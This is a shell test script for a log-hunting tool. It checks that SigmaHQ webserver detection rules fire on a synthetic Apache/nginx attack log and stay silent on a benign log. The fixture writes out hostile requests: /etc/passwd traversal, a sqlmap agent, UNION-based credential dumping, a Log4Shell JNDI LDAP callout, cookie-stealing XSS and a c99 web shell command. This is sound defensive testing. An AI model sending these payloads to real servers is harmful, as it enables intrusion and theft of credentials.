#!/usr/bin/env bash
# SigmaHQ's webserver rules over Apache/nginx access logs: parsed into the
# webserver taxonomy, a traversal, a recon tool's user agent, a web shell
# command, SQL injection, a JNDI lookup (also template injection) and XSS each fire the SigmaHQ rule
# written for them, and a benign day's log fires none.
set -euo pipefail
bin=${HAETAE_BIN:?}
src=${HAETAE_SOURCE_DIR:?}
web=${HAETAE_SHARED_DATA:-}/sigma/rules/web
[ -d "$web" ] || { echo "needs the shared SigmaHQ rules ($web)"; exit 77; }
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
fail() { echo "FAIL: $*"; exit 1; }

cat >"$tmp/attack.log" <<'LOG'
198.51.100.3 - - [01/Mar/2026:10:59:01 +0900] "GET /download?file=../../../etc/passwd HTTP/1.1" 200 1800 "-" "Mozilla/5.0"
198.51.100.3 - - [01/Mar/2026:10:59:02 +0900] "GET /item?id=1 HTTP/1.1" 200 10 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"
198.51.100.3 - - [01/Mar/2026:10:59:03 +0900] "GET /list?order=1%20UNION%20ALL%20SELECT%20NULL,concat_ws(0x3a,user,password)%20from%20users HTTP/1.1" 200 10 "-" "Mozilla/5.0"
198.51.100.3 - - [01/Mar/2026:10:59:04 +0900] "GET /?x=${jndi:ldap://198.51.100.3:1389/Basic/Command/Base64/aWQ=} HTTP/1.1" 200 10 "-" "Mozilla/5.0"
198.51.100.3 - - [01/Mar/2026:10:59:05 +0900] "GET /search?q=<script>alert(document.cookie)</script> HTTP/1.1" 200 10 "-" "Mozilla/5.0"
203.0.113.9 - - [01/Mar/2026:11:00:00 +0900] "GET /uploads/c99.php?cmd=whoami HTTP/1.1" 200 12 "-" "curl/8.0.1"
LOG

ids=$("$bin" hunt --rules "$web" --format jsonl "$tmp/attack.log" 2>"$tmp/err" |
      grep -o '"rule_id":"[^"]*"' | cut -d'"' -f4 | sort -u) || true
grep -q ' 0 skipped' "$tmp/err" || fail "SigmaHQ web rules did not all load: $(cat "$tmp/err")"
for want in \
  7745c2ea-24a5-4290-b680-04359cb84b35 \
  19aa4f58-94ca-45ff-bc34-92e533c0994a \
  5513deaf-f49a-46c2-a6c8-3f111b5cb453 \
  412d55bc-7737-4d25-9542-5b396867ce55 \
  65354b83-a2ea-4ea6-8414-3ab38be0d409 \
  ada3bc4f-f0fd-42b9-ba91-e105e8af7342 \
  7ff9db12-1b94-4a79-ba68-a2402c5d6729; do
  echo "$ids" | grep -qx "$want" || fail "rule $want did not fire; fired: $(echo $ids)"
done
echo "attack log: $(echo "$ids" | wc -l) SigmaHQ web rules fired"

quiet=$("$bin" hunt --rules "$web" --format jsonl "$src/rules/sigma/tests/web.negative.log" 2>/dev/null) && true
[ -z "$quiet" ] || fail "benign access log matched: $quiet"
echo "benign log: quiet"
